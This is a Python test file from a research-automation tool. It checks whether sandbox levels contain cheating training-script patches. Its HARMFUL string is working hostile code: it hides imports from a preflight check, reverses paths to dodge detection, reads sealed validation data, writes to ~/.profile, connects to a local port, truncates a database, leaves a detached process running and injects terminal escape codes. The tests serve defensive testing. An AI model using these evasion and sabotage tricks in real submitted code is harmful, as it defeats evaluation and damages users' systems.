"""A short night of cheats as an ordinary user, and without bubblewrap: what is promised holds.

docs/threat-model.md says what is promised at which level; each line of its table that a trial can
put to the test is asserted here, the broken ones too: where "no" stands, the theft succeeds.
"""

import difflib
import math
import os
import shutil
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from autoresearch import corpus as corpora
from autoresearch.records.tables import Trial
from autoresearch.records.values import Ending, Trust, Verdict
from autoresearch.registry import Registry
from autoresearch.registry.packing import unpack
from autoresearch.scaffold import set_keys
from tests.cheats.catalogue import CONTEXT, entries, honest
from tests.cheats.otherwise import Person, somebody

VOCAB = 258  # the least that `prepare` makes
SECRET = "the sealed words of the validation text"
SECONDS = f"63.{os.getpid()}"  # of sleep: how a process that stays behind is known
# It tries everything, learns nothing, and goes on after the end. Preflight, which is no guard,
# would refuse it before it ran: so it takes modules by their names, and reads paths backwards.
HARMFUL = """
load = json.loads.__globals__["".join(("__built", "ins__"))]["".join(("__imp", "ort__"))]
system, net, clock = map(load, ("o" + "s", "sock" + "et", "ti" + "me"))

def there(path):
    return Path(path[::-1])

def tried(act):
    try:
        act()
    except Exception as fault:
        print(repr(fault), flush=True)

def show(folder):
    for each in folder.rglob("*"):
        if each.is_file():
            print(each.read_bytes()[:5000], flush=True)

def stay_behind():
    if system.fork() == 0:
        system.setsid()
        if system.fork() == 0:
            system.execvp("sleep", ["sleep", "{seconds}"])
        system._exit(0)
    system.wait()

def before(session):
    tried(lambda: show(there("{data}")))
    tried(lambda: (there("{home}") / ".profile").write_text("evil"))
    tried(lambda: net.create_connection(("127.0.0.1", {port}), timeout=2).send(b"val"))
    tried(lambda: system.truncate(there("{victim}"), 0))
    tried(stay_behind)
    print("\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mowned", flush=True)

def learn(session, data):
    return [0.0] * VOCAB ** 2

def later(session):
    clock.sleep(5)
    (there("{home}") / "later").write_text("it went on")
"""


@dataclass(frozen=True)
class Level:
    """What a level is called, what its scores are, and whether it keeps a trial in."""

    name: str
    sandbox: str
    trust: Trust
    keeps_in: bool


LEVELS = [
    Level("as a user", "bubblewrap", Trust.SEALED, keeps_in=True),
    Level("no bubblewrap", "Landlock", Trust.UNSEALED, keeps_in=True),
    Level("plain", "process limits", Trust.UNSEALED, keeps_in=False),
]
pytestmark = [
    # What it can do to the machine is tried one by one in test_zoo.py, with a sandbox and without.
    pytest.mark.thorough,
    pytest.mark.skipif(not Path("/proc/self/ns").exists(), reason="Linux only"),
]


@pytest.fixture(params=LEVELS, ids=lambda level: level.name)
def level(request: pytest.FixtureRequest) -> Level:
    found: Level = request.param
    if found.name == "as a user" and (os.geteuid() != 0 or not shutil.which("bwrap")):
        pytest.skip("the tests run as an ordinary user themselves, or there is no bubblewrap")
    return found


@pytest.fixture
def person(level: Level) -> Iterator[Person]:
    with somebody(level.name) as found:
        script = (
            "import os; from autoresearch.sandbox import detect; print(detect(os.environ).name)"
        )
        here = found.run(found.python, "-c", script, cwd=found.place).strip()
        if level.sandbox == "Landlock" and here == "process limits":
            pytest.skip("this kernel has no Landlock")
        assert here == level.sandbox
        yield found


@pytest.fixture
def project(person: Person) -> Path:
    """The counting program of the zoo as a project, on a small corpus of its own."""
    texts = person.place / "texts"
    texts.mkdir()
    for number in range(60):
        words = " ".join(f"word{number * 7 % 31} and {number + each}" for each in range(60))
        (texts / f"{number}.txt").write_text(f"{SECRET} {number}\n{words}")
    root = person.home / "project"
    person.act("init", str(root), "--profile", "cpu", cwd=person.home)
    settings = (root / "autoresearch.toml").read_text("utf-8")
    for section, key, value in (
        ("training", "budget", "1s"),
        ("evaluation", "context", CONTEXT),
        ("corpus", "vocab_size", VOCAB),
        ("preflight", "steps", 0),
    ):
        settings = set_keys(settings, section, {key: value})
    (root / "autoresearch.toml").write_text(settings)
    program = honest()["train.py"].replace("VOCAB = 257", f"VOCAB = {VOCAB}")
    (root / "train.py").write_text(program)
    person.run("git", "commit", "--quiet", "--all", "--message", "Count pairs", cwd=root)
    person.act("prepare", "--corpus", str(texts), cwd=root)
    return root


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def patched(source: str, addition: str) -> str:
    program, last, rest = source.partition('\n\nif __name__ == "__main__":')
    changed = f"{program}\n{addition}{last}{rest}"
    old, new = (text.splitlines(keepends=True) for text in (source, changed))
    return "".join(difflib.unified_diff(old, new, "a/train.py", "b/train.py"))


def write_patches(person: Person, root: Path, level: Level, port: int) -> Path:
    source, folder = (root / "train.py").read_text(), person.place / "patches"
    folder.mkdir()
    spare(person).write_text("whole")
    # Where nothing keeps it in, it is not let at the registry: the night would end there.
    victim = root / ".autoresearch" / "registry.db" if level.keeps_in else spare(person)
    named = {"data": person.data, "home": person.home, "victim": victim}
    places = {name: str(path)[::-1] for name, path in named.items()}
    looking, pickled = entries("looking")[0], entries("checkpoints")[0]
    for name, addition in (
        ("1 harmful", HARMFUL.format(**places, port=port, seconds=SECONDS)),
        ("2 looking", looking.patch),
        ("3 pickled", pickled.patch),
    ):
        text = f"Subject: {name[2:]}\n\n{patched(source, addition)}"
        (folder / f"{name}.patch").write_text(text)
    return folder


def test_a_night_of_cheats(
    person: Person, project: Path, level: Level, listener: socket.socket
) -> None:
    patches = write_patches(person, project, level, listener.getsockname()[1])
    before = checkout(person, project)
    said = person.act("run", "--tag", "zoo", "--proposer", f"patches:{patches}", cwd=project)
    assert checkout(person, project) == before
    assert person.run("git", "fsck", "--no-dangling", cwd=project) == ""
    registry = Registry.open(project / ".autoresearch" / "registry.db")
    registry.check()
    study = registry.study("zoo")
    assert study is not None
    assert study.trust is level.trust
    assert f"({level.trust})" in person.act("status", cwd=project) or level.trust is Trust.SEALED
    rows = {row.hypothesis: row for row in registry.experiments(study)}
    trials = {name: registry.trials(row, whole=True) for name, row in rows.items()}
    fates = {name: (row.verdict, row.reason) for name, row in rows.items()}
    assert next(iter(fates.values()))[0] is Verdict.KEEP, fates

    # Promised at every level. It is scored by arithmetic, at what its checkpoint is worth:
    assert fates["harmful"][0] is Verdict.DISCARD, fates
    assert trials["harmful"][0].val_bpb == pytest.approx(blank(project), abs=1e-4)
    assert {each.trust for each in scored(trials)} == {level.trust}
    # a prediction rests on the tokens before it, and a checkpoint is no program:
    assert fates["looking"][0] is Verdict.DISQUALIFIED
    assert "tokens before it" in fates["looking"][1]
    assert trials["pickled"][0].ending is Ending.BAD_CHECKPOINT
    # nothing is done after the finish, and nothing outlives a trial:
    assert not (person.home / "later").exists()
    assert left(person) == []
    # and what is shown cannot act.
    assert b"\x1b" in log_of(trials["harmful"])
    said += person.act("status", str(rows["harmful"].id), "--log", cwd=project)
    assert "owned" in said
    assert not {"\x1b", "\x07"} & set(said)

    # Promised by a sandbox alone: else it must be seen to happen, or this tests nothing.
    assert (b"Error(" in log_of(trials["harmful"])) is level.keeps_in
    assert (spare(person).read_text() == "whole") is level.keeps_in
    assert (SECRET.encode() not in log_of(trials["harmful"])) is level.keeps_in
    assert (not (person.home / ".profile").exists()) is level.keeps_in
    assert (not was_reached(listener)) is level.keeps_in


def spare(person: Person) -> Path:
    """Return a file of the person's that is no part of the project."""
    return person.home / "spare"


def checkout(person: Person, project: Path) -> str:
    """Return what git says of the person's branch and files."""
    head = person.run("git", "rev-parse", "HEAD", "--abbrev-ref", "HEAD", cwd=project)
    return head + person.run("git", "status", "--porcelain", cwd=project)


def blank(project: Path) -> float:
    """Return what a model is worth that has learned nothing."""
    corpus = corpora.load(project / ".autoresearch" / "corpus.json")
    texts = [each.data for each in corpus.val()]
    tokens = sum(len(corpus.tokenizer().encode(each)) for each in texts)
    return math.log2(VOCAB) * tokens / sum(map(len, texts))


def scored(trials: dict[str, list[Trial]]) -> list[Trial]:
    return [each for found in trials.values() for each in found if each.val_bpb is not None]


def log_of(trials: list[Trial]) -> bytes:
    return unpack(trials[0].log)


def left(person: Person) -> list[str]:
    """Return the processes of the night that are still there."""
    lines = [" ".join(each.info["cmdline"] or ()) for each in psutil.process_iter(["cmdline"])]
    return [line for line in lines if str(person.place) in line or line == f"sleep {SECONDS}"]


def was_reached(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
    except BlockingIOError:
        return False
    return True
